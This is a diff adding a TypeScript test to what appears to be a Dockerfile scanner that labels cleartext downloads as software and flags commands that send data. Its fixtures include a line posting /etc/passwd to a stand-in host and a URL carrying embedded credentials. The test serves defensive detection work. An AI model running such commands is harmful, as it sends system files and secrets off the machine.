@@ -93,6 +93,23 @@ test('addresses in the clear are seen in downloads, commands and settings, not t
   ]);
 });
 
+test('what a build fetches is software unless the command sends something', () => {
+  const carried = (file: string): unknown =>
+    read(file).map((fact) =>
+      fact.kind === 'cleartext' ? (fact.carries ?? 'anything') : fact.kind,
+    );
+
+  expect(carried('RUN curl -fsSL http://a.example.com/x.tgz | tar xz\n')).toEqual(['software']);
+  expect(carried('RUN wget http://a.example.com/x.tgz\nADD http://b.example.com/y /\n')).toEqual([
+    'software',
+    'software',
+  ]);
+  expect(carried('RUN curl -sd @/etc/passwd http://a.example.com\n')).toEqual(['anything']);
+  expect(carried('RUN curl --data-binary @x http://a.example.com\n')).toEqual(['anything']);
+  expect(carried('RUN curl http://me:secret@a.example.com\n')).toEqual(['anything']);
+  expect(carried('CMD curl http://a.example.com/users\n')).toEqual(['anything']);
+});
+
 test('a host that only an inner network knows is said to be so', () => {
   expect(read('ENV API=http://api:8080\n')).toMatchObject([
     { kind: 'cleartext', host: 'api', network: 'internal' },
